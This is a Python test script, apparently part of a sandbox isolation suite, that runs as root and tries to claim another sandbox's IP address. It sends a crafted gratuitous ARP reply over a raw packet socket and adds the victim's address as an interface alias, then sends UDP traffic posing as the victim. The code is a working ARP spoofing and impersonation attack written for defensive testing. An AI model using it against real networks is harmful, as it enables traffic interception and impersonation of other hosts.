# attack: ARP/neighbour spoofing: claim another sandbox's address (packet socket, ARP ioctls)
# users: root
import fcntl
import socket
import struct

from _lib import privileged
from _net import ENV, UDP_PORT, marker

victim = ENV["NET_VICTIM"]
results = {}
try:
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0806))
    s.bind(("eth0", 0))
    mac = s.getsockname()[4]
    arp = (
        struct.pack("!HHBBH", 1, 0x0800, 6, 4, 2)
        + mac
        + socket.inet_aton(victim)
        + b"\xff" * 6
        + socket.inet_aton(victim)
    )
    s.send(b"\xff" * 6 + mac + b"\x08\x06" + arp)  # a gratuitous ARP reply: victim is at us
    s.close()
    results["gratuitous arp"] = "sent"
except OSError as exc:
    results["gratuitous arp"] = exc.strerror
try:  # SIOCSIFADDR on an alias: take the victim's address as a second address of our own
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        req = struct.pack(
            "16sH2s4s8s", b"eth0:9", socket.AF_INET, b"\0\0", socket.inet_aton(victim), b"\0" * 8
        )
        fcntl.ioctl(s, 0x8916, req)
    results["SIOCSIFADDR"] = "ok"
except OSError as exc:
    results["SIOCSIFADDR"] = exc.strerror
if results["SIOCSIFADDR"] == "ok":  # speak as the victim, then let the address go again
    results["udp as the victim"] = "sent"
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.bind((victim, 0))
            s.sendto(marker("as-victim").encode(), (ENV["NET_ALLOWED"], UDP_PORT))
    except OSError as exc:
        results["udp as the victim"] = exc.strerror
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        fcntl.ioctl(s, 0x8914, struct.pack("16sH14s", b"eth0:9", 0, b"\0" * 14))  # SIOCSIFFLAGS: down
# What the sandbox does to its own interfaces is contained on a kernel of its own; the host
# checks its neighbour table and the playground counts what arrived under the victim's name.
privileged({k: "ok" if v in ("ok", "sent") else v for k, v in results.items()})
